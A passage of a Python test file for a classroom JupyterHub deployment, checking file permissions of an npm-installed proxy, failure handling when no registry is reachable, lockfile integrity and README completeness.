        (tmp_path / "tool").mkdir()
        (tmp_path / "tool/run.js").write_text("")
        (tmp_path / "tool/package.json").write_text(json.dumps(package))
        pack = [node.BIN / "node", node.NPM, "pack", tmp_path / "tool"]
        subprocess.run(pack, cwd=tmp_path, check=True, capture_output=True)
        tool = f"file:{tmp_path}/tool-1.0.0.tgz"
        root = {"name": "proxy", "dependencies": {"tool": tool}}
        packages = {"": root, "node_modules/tool": {"version": "1.0.0", "resolved": tool}}
        lock = tmp_path / "proxy/package-lock.json"
        lock.parent.mkdir()
        lock.with_name("package.json").write_text(json.dumps(root))
        lock.write_text(json.dumps({"name": "proxy", "lockfileVersion": 3, "packages": packages}))
        monkeypatch.setattr(sys, "prefix", str(tmp_path))
        before = os.umask(0o077)  # as the hub has it
        try:
            place = node.fetched(lock, "The hub's proxy", 3)
        finally:
            os.umask(before)
        closed = [path for path in [place, *place.rglob("*")] if not path.stat().st_mode & 0o004]
        assert (place / "node_modules/tool/run.js").is_file()
        assert closed == []

    def test_a_folder_that_accounts_cannot_enter_is_found(tmp_path):
        import hub

        closed, inner = tmp_path / "closed", tmp_path / "closed/open"
        inner.mkdir(parents=True)
        for place in (tmp_path, inner, closed):
            place.chmod(0o711)
        assert hub.closed_to_others(inner) != closed
        closed.chmod(0o700)
        assert hub.closed_to_others(inner) == closed

    def test_without_a_registry_it_says_so_and_leaves_nothing(tmp_path):
        code, said = said_by(
            "import node, pathlib, sys; place = pathlib.Path(sys.argv[1]) / 'proxy'; "
            'node.install(node.PROXY, place, "The hub\'s proxy")'.replace(
                "sys.argv[1]", repr(str(tmp_path))
            ),
            npm_config_registry="http://127.0.0.1:9/",
            npm_config_cache=str(tmp_path / "cache"),
            npm_config_fetch_retries="0",
        )
        assert code == 1
        assert said.startswith("The hub's proxy cannot be downloaded")
        assert said.endswith(f"It is fetched once, into {tmp_path / 'proxy'}.")
        assert not list(tmp_path.glob("proxy*"))

    def test_the_proxy_is_the_one_of_the_lock():
        lock = json.loads((CLASSROOM / "proxy/package-lock.json").read_text("utf-8"))["packages"]
        import node

        place = Path(node.proxy()[1]).parents[3]
        asked = json.loads((CLASSROOM / "proxy/package.json").read_text("utf-8"))["dependencies"]
        assert lock[""]["dependencies"] == asked
        packages = {name: package for name, package in lock.items() if name}
        assert all(package["integrity"].startswith("sha512-") for package in packages.values())
        for name, package in packages.items():
            found = json.loads((place / name / "package.json").read_text("utf-8"))
            assert found["version"] == package["version"]

    def test_the_readme_lists_every_setting():
        files = [
            CLASSROOM / f"{name}.py" for name in ("hub", "jupyterhub_config", "door", "learner")
        ]
        used = set(re.findall(r"COURSE_[A-Z_]+[A-Z]", "".join(f.read_text("utf-8") for f in files)))
        inner = {"COURSE_HUB_PORT", "COURSE_PROXY_PORT", "COURSE_PROXY", "COURSE_SOCKETS"}
        inner.add("COURSE_FOLDER")  # one learner's: a container has it, a hub must not
        table = (CLASSROOM / "README.md").read_text("utf-8").split("| variable |")[1]
        listed = set(re.findall(r"`(COURSE_[A-Z_]+)`", table.split("\n\n")[0]))
        assert listed == used - inner
